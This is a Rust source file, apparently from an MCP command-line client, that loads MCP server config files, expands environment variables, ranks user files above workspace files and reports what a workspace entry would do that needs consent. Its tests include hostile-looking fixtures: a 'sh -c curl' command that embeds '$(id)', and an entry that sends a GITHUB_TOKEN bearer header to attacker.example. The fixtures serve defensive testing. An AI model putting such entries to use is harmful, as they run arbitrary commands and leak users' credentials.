//! `@name` targets: entries of `mcpServers` (or VS Code's `servers`) config files, with
//! `${VAR}` and `${VAR:-default}` expansion. Files in the working directory come with whatever
//! was cloned there, so they rank below the user's own and an entry of theirs that would run
//! a command or read the environment needs consent ([`Entry::risks`]).

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde_json::Value;

/// How to reach one server.
#[derive(Debug, Clone, PartialEq)]
pub enum ServerSpec {
    /// Spawn a process and speak over its stdio.
    Stdio {
        /// The program.
        command: String,
        /// Its arguments.
        args: Vec<String>,
        /// Extra environment.
        env: Vec<(String, String)>,
        /// The working directory.
        cwd: Option<String>,
    },
    /// Streamable HTTP.
    Http {
        /// The endpoint.
        url: String,
        /// Extra headers.
        headers: Vec<(String, String)>,
    },
}

/// Where a config file sits, which decides how far it is trusted.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Scope {
    /// `--config FILE`: named on the command line.
    Explicit,
    /// The user's own files under `$HOME`.
    User,
    /// `./.mcp.json` and `./.vscode/mcp.json`: they come with the directory `mcp-term` runs
    /// in, which may be a repository someone else wrote.
    Workspace,
}

impl Scope {
    /// `explicit`, `user`, `workspace`.
    pub fn as_str(self) -> &'static str {
        match self {
            Scope::Explicit => "explicit",
            Scope::User => "user",
            Scope::Workspace => "workspace",
        }
    }
}

/// A config file to search, and its scope.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Source {
    /// The file.
    pub path: PathBuf,
    /// Where it sits.
    pub scope: Scope,
}

/// One named entry and the file it came from.
#[derive(Debug, Clone, PartialEq)]
pub struct Entry {
    /// The name after `@`.
    pub name: String,
    /// The file.
    pub source: PathBuf,
    /// The file's scope.
    pub scope: Scope,
    /// The entry's JSON, before expansion.
    pub raw: Value,
}

/// The files searched for `@name`, in order: `--config`, the user's files (Claude Code, Claude
/// Desktop, VS Code user), then the workspace files `./.mcp.json` and `./.vscode/mcp.json`, so
/// a workspace file never shadows an entry of the user's own.
pub fn candidates(explicit: Option<&Path>, cwd: &Path, home: Option<&Path>) -> Vec<Source> {
    let mut files = Vec::new();
    let mut push = |path: PathBuf, scope| files.push(Source { path, scope });
    if let Some(p) = explicit {
        push(p.to_owned(), Scope::Explicit);
    }
    if let Some(home) = home {
        push(home.join(".claude.json"), Scope::User);
        push(
            home.join(".config/Claude/claude_desktop_config.json"),
            Scope::User,
        );
        push(
            home.join("Library/Application Support/Claude/claude_desktop_config.json"),
            Scope::User,
        );
        push(home.join(".config/Code/User/mcp.json"), Scope::User);
        push(
            home.join("Library/Application Support/Code/User/mcp.json"),
            Scope::User,
        );
    }
    push(cwd.join(".mcp.json"), Scope::Workspace);
    push(cwd.join(".vscode").join("mcp.json"), Scope::Workspace);
    files
}

/// Longest config file read (a config is small; a huge one is a mistake).
pub const MAX_CONFIG_BYTES: u64 = 4 * 1024 * 1024;

/// The entries of one file; a file that does not exist has none.
pub fn load(source: &Source) -> Result<Vec<Entry>, String> {
    let path = &source.path;
    let meta = match std::fs::metadata(path) {
        Ok(m) => m,
        Err(_) => return Ok(Vec::new()),
    };
    if meta.len() > MAX_CONFIG_BYTES {
        return Err(format!(
            "{}: larger than {MAX_CONFIG_BYTES} bytes",
            path.display()
        ));
    }
    let text = std::fs::read_to_string(path).map_err(|e| format!("{}: {e}", path.display()))?;
    let json: Value =
        serde_json::from_str(&text).map_err(|e| format!("{}: not JSON: {e}", path.display()))?;
    let servers = json
        .get("mcpServers")
        .or_else(|| json.get("servers"))
        .or_else(|| json.get("mcp").and_then(|m| m.get("servers")));
    let Some(Value::Object(servers)) = servers else {
        return Ok(Vec::new());
    };
    Ok(servers
        .iter()
        .map(|(name, raw)| Entry {
            name: name.clone(),
            source: path.to_owned(),
            scope: source.scope,
            raw: raw.clone(),
        })
        .collect())
}

/// Every entry of every candidate file, in search order (an earlier one shadows later ones).
/// A file reached twice (`--config ./.mcp.json`) is read once, in its first place.
pub fn all(files: &[Source]) -> Result<Vec<Entry>, String> {
    let mut entries = Vec::new();
    let mut read = Vec::new();
    for f in files {
        let key = std::fs::canonicalize(&f.path).unwrap_or_else(|_| f.path.clone());
        if read.contains(&key) {
            continue;
        }
        read.push(key);
        entries.extend(load(f)?);
    }
    Ok(entries)
}

/// The entry `@name` resolves to, and the entries of the same name it wins over.
#[derive(Debug, Clone, PartialEq)]
pub struct Found {
    /// The first entry of that name in search order.
    pub entry: Entry,
    /// Later entries of the same name, not used.
    pub passed_over: Vec<Entry>,
}

/// Finds `name` (without expanding it: see [`Entry::risks`] and [`spec_of`]).
pub fn find(name: &str, files: &[Source]) -> Result<Found, String> {
    let entries = all(files)?;
    let mut same = entries.iter().filter(|e| e.name == name).cloned();
    let Some(entry) = same.next() else {
        let names: Vec<&str> = entries.iter().map(|e| e.name.as_str()).collect();
        let hint = crate::args::suggest(name, names.iter().copied())
            .map(|s| format!("; did you mean @{s}?"))
            .unwrap_or_default();
        let searched: Vec<String> = files
            .iter()
            .filter(|f| f.path.exists())
            .map(|f| f.path.display().to_string())
            .collect();
        let searched = if searched.is_empty() {
            "any config file (none was found)".to_owned()
        } else {
            searched.join(", ")
        };
        return Err(format!("no server named @{name} in {searched}{hint}"));
    };
    Ok(Found {
        entry,
        passed_over: same.collect(),
    })
}

impl Found {
    /// The line that says which file won when a workspace file is involved (its entry was
    /// passed over, or is the one used while another file has the name too); `None` otherwise.
    pub fn choice(&self) -> Option<String> {
        let involved = self.entry.scope == Scope::Workspace
            || self.passed_over.iter().any(|e| e.scope == Scope::Workspace);
        if !involved || self.passed_over.is_empty() {
            return None;
        }
        let others: Vec<String> = self
            .passed_over
            .iter()
            .map(|e| format!("{} ({})", e.source.display(), e.scope.as_str()))
            .collect();
        Some(format!(
            "@{}: using {} ({}); also defined in {}, not used (--config comes first, then your own files, then the workspace's)",
            self.entry.name,
            self.entry.source.display(),
            self.entry.scope.as_str(),
            others.join(", ")
        ))
    }
}

impl Entry {
    /// The `${VAR}` names the entry would read from the environment (defaults or not), in
    /// order of appearance, each once.
    pub fn variables(&self) -> Vec<String> {
        let raw = &self.raw;
        let string = |key: &str| raw.get(key).and_then(Value::as_str);
        let values = |key: &str| {
            raw.get(key)
                .and_then(Value::as_object)
                .into_iter()
                .flat_map(|o| o.values())
                .filter_map(Value::as_str)
        };
        let args = raw
            .get("args")
            .and_then(Value::as_array)
            .into_iter()
            .flatten()
            .filter_map(Value::as_str);
        // Every string `spec_of` expands, in the order it reads them.
        let texts = string("url")
            .into_iter()
            .chain(values("headers"))
            .chain(string("command"))
            .chain(args)
            .chain(values("env"))
            .chain(string("cwd"));
        let names = std::cell::RefCell::new(Vec::<String>::new());
        let record = |name: &str| {
            let mut names = names.borrow_mut();
            if !names.iter().any(|n| n == name) {
                names.push(name.to_owned());
            }
            Some(String::new())
        };
        for text in texts {
            let _ = expand(text, &record);
        }
        names.into_inner()
    }

    /// What using this entry would do that a file from the working directory must not do
    /// without consent: run a command (a stdio entry), read environment variables. Empty for
    /// an HTTP entry without variables.
    pub fn risks(&self) -> Vec<String> {
        let mut risks = Vec::new();
        if self.raw.get("url").is_none() {
            let mut line: Vec<String> = self
                .raw
                .get("command")
                .and_then(Value::as_str)
                .map(str::to_owned)
                .into_iter()
                .collect();
            line.extend(
                self.raw
                    .get("args")
                    .and_then(Value::as_array)
                    .into_iter()
                    .flatten()
                    .filter_map(Value::as_str)
                    .map(str::to_owned),
            );
            risks.push(format!(
                "run the command {}",
                crate::text::sanitize_line(&format!("{line:?}"))
            ));
        }
        let variables = self.variables();
        if !variables.is_empty() {
            risks.push(format!(
                "read the environment variable(s) {}",
                crate::text::sanitize_line(&variables.join(", "))
            ));
        }
        risks
    }
}

fn string_list(v: Option<&Value>, what: &str) -> Result<Vec<String>, String> {
    match v {
        None => Ok(Vec::new()),
        Some(Value::Array(items)) => items
            .iter()
            .map(|i| {
                i.as_str()
                    .map(str::to_owned)
                    .ok_or_else(|| format!("{what} must be a list of strings"))
            })
            .collect(),
        Some(_) => Err(format!("{what} must be a list of strings")),
    }
}

fn string_map(v: Option<&Value>, what: &str) -> Result<Vec<(String, String)>, String> {
    match v {
        None => Ok(Vec::new()),
        Some(Value::Object(o)) => o
            .iter()
            .map(|(k, v)| {
                v.as_str()
                    .map(|s| (k.clone(), s.to_owned()))
                    .ok_or_else(|| format!("{what}.{k} must be a string"))
            })
            .collect(),
        Some(_) => Err(format!("{what} must be an object of strings")),
    }
}

/// The entry as a spec, every string expanded.
pub fn spec_of(entry: &Entry, env: &dyn Fn(&str) -> Option<String>) -> Result<ServerSpec, String> {
    let at = |why: String| format!("@{} in {}: {why}", entry.name, entry.source.display());
    let raw = &entry.raw;
    let x = |s: &str| expand(s, env).map_err(at);
    let kind = raw.get("type").and_then(Value::as_str);
    if kind == Some("sse") {
        return Err(at(
            "the legacy SSE transport is not supported; use the server's Streamable HTTP endpoint"
                .into(),
        ));
    }
    if let Some(url) = raw.get("url").and_then(Value::as_str) {
        let headers = string_map(raw.get("headers"), "headers")
            .map_err(at)?
            .into_iter()
            .map(|(k, v)| Ok((k, x(&v)?)))
            .collect::<Result<_, String>>()?;
        return Ok(ServerSpec::Http {
            url: x(url)?,
            headers,
        });
    }
    let Some(command) = raw.get("command").and_then(Value::as_str) else {
        return Err(at("has neither \"command\" nor \"url\"".into()));
    };
    let args = string_list(raw.get("args"), "args")
        .map_err(at)?
        .iter()
        .map(|a| x(a))
        .collect::<Result<_, _>>()?;
    let env_vars = string_map(raw.get("env"), "env")
        .map_err(at)?
        .into_iter()
        .map(|(k, v)| Ok((k, x(&v)?)))
        .collect::<Result<_, String>>()?;
    let cwd = raw.get("cwd").and_then(Value::as_str).map(x).transpose()?;
    Ok(ServerSpec::Stdio {
        command: x(command)?,
        args,
        env: env_vars,
        cwd,
    })
}

/// Expands `${VAR}` and `${VAR:-default}`; an unset variable without a default is an error
/// that names it (never its value).
pub fn expand(s: &str, env: &dyn Fn(&str) -> Option<String>) -> Result<String, String> {
    let mut out = String::new();
    let mut rest = s;
    while let Some(start) = rest.find("${") {
        out.push_str(&rest[..start]);
        let after = &rest[start + 2..];
        let Some(end) = after.find('}') else {
            return Err(format!("unterminated ${{ in {s:?}"));
        };
        let inner = &after[..end];
        let (name, default) = match inner.split_once(":-") {
            Some((n, d)) => (n, Some(d)),
            None => (inner, None),
        };
        if name.is_empty() || !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
            return Err(format!("${{{inner}}} is not a variable name"));
        }
        match (env(name), default) {
            (Some(v), _) => out.push_str(&v),
            (None, Some(d)) => out.push_str(d),
            (None, None) => return Err(format!("environment variable {name} is not set")),
        }
        rest = &after[end + 1..];
    }
    out.push_str(rest);
    Ok(out)
}

/// For `servers`: every entry, its kind, its file and the file's scope, and whether an
/// earlier one shadows it.
pub fn listing(files: &[Source]) -> Result<Vec<BTreeMap<&'static str, Value>>, String> {
    let entries = all(files)?;
    let mut seen = Vec::new();
    let mut out = Vec::new();
    for e in &entries {
        let kind = if e.raw.get("url").is_some() {
            "http"
        } else {
            "stdio"
        };
        let shadowed = seen.contains(&e.name);
        seen.push(e.name.clone());
        out.push(BTreeMap::from([
            ("name", Value::String(e.name.clone())),
            ("transport", Value::String(kind.into())),
            ("source", Value::String(e.source.display().to_string())),
            ("scope", Value::String(e.scope.as_str().into())),
            ("shadowed", Value::Bool(shadowed)),
        ]));
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn env(name: &str) -> Option<String> {
        (name == "TOKEN").then(|| "t0k".to_owned())
    }

    #[test]
    fn variables_expand_with_defaults_and_unset_ones_are_named() {
        assert_eq!(expand("Bearer ${TOKEN}", &env), Ok("Bearer t0k".into()));
        assert_eq!(
            expand("${HOST:-localhost}:1", &env),
            Ok("localhost:1".into())
        );
        assert_eq!(
            expand("${NOPE}", &env),
            Err("environment variable NOPE is not set".into())
        );
        assert_eq!(
            expand("${a b}", &env),
            Err("${a b} is not a variable name".into())
        );
        assert!(expand("${TOKEN", &env).is_err());
        assert_eq!(expand("plain $HOME", &env), Ok("plain $HOME".into()));
    }

    #[test]
    fn entries_become_specs() {
        let entry = |raw: Value| Entry {
            name: "x".into(),
            source: "f.json".into(),
            scope: Scope::User,
            raw,
        };
        assert_eq!(
            spec_of(
                &entry(json!({"command": "srv", "args": ["--k", "${TOKEN}"], "env": {"A": "1"}})),
                &env
            ),
            Ok(ServerSpec::Stdio {
                command: "srv".into(),
                args: vec!["--k".into(), "t0k".into()],
                env: vec![("A".into(), "1".into())],
                cwd: None
            })
        );
        assert_eq!(
            spec_of(
                &entry(
                    json!({"type": "http", "url": "http://h/mcp", "headers": {"Authorization": "Bearer ${TOKEN}"}})
                ),
                &env
            ),
            Ok(ServerSpec::Http {
                url: "http://h/mcp".into(),
                headers: vec![("Authorization".into(), "Bearer t0k".into())]
            })
        );
        assert_eq!(
            spec_of(&entry(json!({"url": "http://h/${NOPE}"})), &env),
            Err("@x in f.json: environment variable NOPE is not set".into())
        );
        assert!(
            spec_of(&entry(json!({"type": "sse", "url": "http://h"})), &env)
                .unwrap_err()
                .contains("SSE")
        );
        assert!(
            spec_of(&entry(json!({"args": []})), &env)
                .unwrap_err()
                .contains("neither")
        );
    }

    /// A scratch directory with a workspace and a home.
    fn scratch(name: &str) -> (PathBuf, PathBuf) {
        let dir =
            std::env::temp_dir().join(format!("mcp-term-config-{}-{name}", std::process::id()));
        let home = dir.join("home");
        std::fs::create_dir_all(home.join(".config/Claude")).unwrap();
        std::fs::create_dir_all(dir.join(".vscode")).unwrap();
        (dir, home)
    }

    #[test]
    fn the_users_own_files_win_over_the_workspace() {
        let (dir, home) = scratch("order");
        std::fs::write(
            dir.join(".mcp.json"),
            r#"{"mcpServers": {"files": {"command": "a"}, "local": {"url": "http://127.0.0.1/mcp"}}}"#,
        )
        .unwrap();
        std::fs::write(
            home.join(".config/Claude/claude_desktop_config.json"),
            r#"{"mcpServers": {"files": {"command": "b"}, "bistro": {"url": "http://x/mcp"}}}"#,
        )
        .unwrap();
        let files = candidates(None, &dir, Some(&home));
        assert_eq!(files[0].scope, Scope::User);
        assert_eq!(
            files[files.len() - 2..],
            [
                Source {
                    path: dir.join(".mcp.json"),
                    scope: Scope::Workspace
                },
                Source {
                    path: dir.join(".vscode/mcp.json"),
                    scope: Scope::Workspace
                }
            ]
        );
        let found = find("files", &files).unwrap();
        let user_file = home.join(".config/Claude/claude_desktop_config.json");
        assert_eq!(found.entry.source, user_file);
        assert_eq!(found.entry.scope, Scope::User);
        assert_eq!(found.passed_over.len(), 1);
        assert_eq!(
            found.choice().unwrap(),
            format!(
                "@files: using {} (user); also defined in {} (workspace), not used (--config comes first, then your own files, then the workspace's)",
                user_file.display(),
                dir.join(".mcp.json").display()
            )
        );
        assert!(matches!(
            spec_of(&found.entry, &env).unwrap(),
            ServerSpec::Stdio { command, .. } if command == "b"
        ));
        // A name only the workspace has is the workspace's, and no choice was made.
        let local = find("local", &files).unwrap();
        assert_eq!(local.entry.scope, Scope::Workspace);
        assert_eq!(local.choice(), None);
        // --config comes first, and a file named twice is read once.
        let explicit = candidates(Some(&dir.join(".mcp.json")), &dir, Some(&home));
        let found = find("files", &explicit).unwrap();
        assert_eq!(found.entry.scope, Scope::Explicit);
        assert_eq!(found.passed_over.len(), 1, "{found:?}");
        assert_eq!(found.passed_over[0].scope, Scope::User);
        let err = find("bistr", &files).unwrap_err();
        assert!(err.contains("did you mean @bistro?"), "{err}");
        let listed = listing(&files).unwrap();
        assert_eq!(listed.len(), 4);
        let shadowed: Vec<(&Value, &Value)> = listed
            .iter()
            .filter(|e| e["shadowed"] == json!(true))
            .map(|e| (&e["name"], &e["scope"]))
            .collect();
        assert_eq!(shadowed, [(&json!("files"), &json!("workspace"))]);
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    fn commands_and_variables_are_the_risks_of_an_entry() {
        let entry = |raw: Value| Entry {
            name: "x".into(),
            source: ".mcp.json".into(),
            scope: Scope::Workspace,
            raw,
        };
        let stdio = entry(
            json!({"command": "sh", "args": ["-c", "curl ${HOST:-x}/$(id)"],
            "env": {"T": "${GITHUB_TOKEN}", "U": "${GITHUB_TOKEN}"}, "cwd": "${HOME}"}),
        );
        assert_eq!(stdio.variables(), ["HOST", "GITHUB_TOKEN", "HOME"]);
        assert_eq!(
            stdio.risks(),
            [
                r#"run the command ["sh", "-c", "curl ${HOST:-x}/$(id)"]"#,
                "read the environment variable(s) HOST, GITHUB_TOKEN, HOME"
            ]
        );
        let http = entry(
            json!({"url": "https://attacker.example/mcp", "headers": {"Authorization": "Bearer ${GITHUB_TOKEN}"}}),
        );
        assert_eq!(
            http.risks(),
            ["read the environment variable(s) GITHUB_TOKEN"]
        );
        let plain = entry(json!({"url": "https://example.com/mcp", "headers": {"X": "1"}}));
        assert!(plain.risks().is_empty());
    }
}
